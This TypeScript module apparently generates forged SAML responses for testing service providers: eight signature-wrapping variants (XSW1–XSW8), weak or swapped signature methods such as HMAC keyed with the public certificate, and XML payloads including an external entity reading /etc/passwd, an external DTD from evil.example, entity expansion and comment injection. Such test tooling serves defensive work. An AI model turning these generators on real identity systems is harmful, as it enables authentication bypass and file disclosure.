// What is done to signed answers of SAML: the eight ways to wrap one around a forged one (XSW1 to XSW8), methods that prove nothing, and what XML can hide.
import { createHmac } from 'node:crypto';
import { SignedXml } from 'xml-crypto';

const signature = /<ds:Signature[\s\S]*?<\/ds:Signature>/;
const assertion = /<saml:Assertion[\s\S]*<\/saml:Assertion>/;

const partOf = (xml: string, pattern: RegExp): string => {
  const [part] = pattern.exec(xml) ?? [];
  if (part === undefined) throw new Error('the answer lacks what is wrapped');
  return part;
};

/** Inside its signature, where `Object` may hold anything. */
const inObject = (signed: string, hidden: string): string =>
  signed.replace('</ds:Signature>', `<ds:Object>${hidden}</ds:Object></ds:Signature>`);

export type Forge = (text: string) => string;
export type Wrap = (xml: string, forge: Forge) => string;

/** The assertion that was signed, its signature, what it is without, and a forged one that has another id and none. */
function partsOf(xml: string, forge: Forge) {
  const signed = partOf(xml, assertion);
  const proof = partOf(signed, signature);
  const bare = signed.replace(proof, '');
  const forged = forge(bare).replace(/ ID="[^"]*"/, ' ID="_forged"');
  return { signed, proof, bare, forged };
}

/** A forged answer around one that is signed as a whole. */
function wholeOf(xml: string, forge: Forge) {
  const proof = partOf(xml, signature);
  const bare = xml.replace(proof, '');
  const forged = forge(bare).replace(/ ID="[^"]*"/, ' ID="_forgedAnswer"');
  return { proof, bare, forged };
}

/** The first two wrap what is signed as a whole, the others a signed assertion. */
export const wraps: Readonly<Record<string, Wrap>> = {
  XSW1(xml, forge) {
    const { proof, bare, forged } = wholeOf(xml, forge);
    return forged.replace('</saml:Issuer>', `</saml:Issuer>${inObject(proof, bare)}`);
  },
  XSW2(xml, forge) {
    const { proof, bare, forged } = wholeOf(xml, forge);
    return forged.replace('</saml:Issuer>', `</saml:Issuer>${bare}${proof}`);
  },
  XSW3(xml, forge) {
    const { signed, forged } = partsOf(xml, forge);
    return xml.replace(signed, `${forged}${signed}`);
  },
  XSW4(xml, forge) {
    const { signed, forged } = partsOf(xml, forge);
    return xml.replace(signed, forged.replace('</saml:Assertion>', `${signed}</saml:Assertion>`));
  },
  XSW5(xml, forge) {
    const { signed, proof, bare, forged } = partsOf(xml, forge);
    return xml.replace(signed, `${forged.replace('</saml:Issuer>', `</saml:Issuer>${proof}`)}${bare}`);
  },
  XSW6(xml, forge) {
    const { signed, proof, bare, forged } = partsOf(xml, forge);
    return xml.replace(signed, forged.replace('</saml:Issuer>', `</saml:Issuer>${inObject(proof, bare)}`));
  },
  XSW7(xml, forge) {
    const { signed, forged } = partsOf(xml, forge);
    return xml.replace(signed, `<samlp:Extensions>${forged}</samlp:Extensions>${signed}`);
  },
  XSW8(xml, forge) {
    const { signed, proof, bare, forged } = partsOf(xml, forge);
    const around = forged.replace('</saml:Issuer>', `</saml:Issuer>${inObject(proof, bare)}`);
    return xml.replace(signed, around.replace(/ ID="_forged"/, '$& Id="_again"'));
  },
};

/** A shared secret that everybody knows: the certificate itself. */
function signedBySecret(xml: string, pem: string): string {
  const bare = xml.replace(partOf(xml, signature), '');
  const method = 'http://www.w3.org/2000/09/xmldsig#hmac-sha1';
  const signer = new SignedXml({ privateKey: pem, signatureAlgorithm: method });
  signer.enableHMAC();
  signer.canonicalizationAlgorithm = 'http://www.w3.org/2001/10/xml-exc-c14n#';
  signer.addReference({
    xpath: "//*[local-name(.)='Assertion']",
    digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256',
    transforms: [
      'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
      'http://www.w3.org/2001/10/xml-exc-c14n#',
    ],
  });
  signer.computeSignature(bare, {
    prefix: 'ds',
    location: { reference: "//*[local-name(.)='Assertion']/*[local-name(.)='Issuer']", action: 'after' },
  });
  return signer.getSignedXml();
}

/** Named as the signature of a secret, with the value that this secret gives. */
const namedAsSecret = (xml: string, pem: string): string =>
  xml
    .replace(
      /<ds:SignatureMethod Algorithm="[^"]*"/,
      '<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"',
    )
    .replace(
      /<ds:SignatureValue>[^<]*/,
      () =>
        `<ds:SignatureValue>${createHmac('sha256', pem)
          .update(partOf(xml, /<ds:SignedInfo[\s\S]*<\/ds:SignedInfo>/))
          .digest('base64')}`,
    );

const named = (element: string, method: string) => (xml: string) =>
  xml.replace(new RegExp(`(<ds:${element} Algorithm=)"[^"]*"`), `$1"${method}"`);

/** Signed, but by methods that nobody should believe. */
export const weakMethods: readonly ((xml: string, pem: string) => string)[] = [
  signedBySecret,
  namedAsSecret,
  named('SignatureMethod', 'none'),
  (xml) => xml.replace(/(<ds:SignatureMethod) Algorithm="[^"]*"/, '$1'),
  named('DigestMethod', 'http://www.w3.org/2000/09/xmldsig#sha1'),
  named('Transform', 'http://www.w3.org/TR/1999/REC-xslt-19991116'),
];

/** Hidden in an answer about `eve-id`, without a trace in what is signed where that is possible. */
export const hidings: Readonly<Record<string, (xml: string) => string>> = {
  'CWE-611: an outside entity': (xml) =>
    `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>${xml.replace('eve-id', '&x;')}`,
  'CWE-776: entities in entities': (xml) =>
    `<!DOCTYPE a [<!ENTITY x "x"><!ENTITY y "&x;&x;&x;">]>${xml.replace('eve-id', '&y;')}`,
  'CWE-611: a description elsewhere': (xml) =>
    `<?xml version="1.0"?><!DOCTYPE a SYSTEM "https://evil.example/a.dtd">${xml}`,
  'CWE-91: a comment in the address (CVE-2017-11427)': (xml) =>
    xml.replace(/(eve@[^<]*)</, '$1<!---->.evil.test<'),
  'CWE-91: a comment in the name': (xml) => xml.replace('eve-id', 'boss<!-- -->-id'),
  'CWE-91: an instruction in the name': (xml) => xml.replace('eve-id', 'eve<?x y?>-id'),
  'CWE-91: CDATA in the name': (xml) => xml.replace('eve-id', '<![CDATA[eve-id]]>'),
  'CWE-20: no XML': () => 'nothing',
  'CWE-20: unfinished': (xml) => xml.slice(0, -20),
  'CWE-20: two documents': (xml) => xml + xml,
  'CWE-674: levels without end': (xml) =>
    xml.replace('<samlp:Status>', `${'<a>'.repeat(20_000)}${'</a>'.repeat(20_000)}<samlp:Status>`),
};
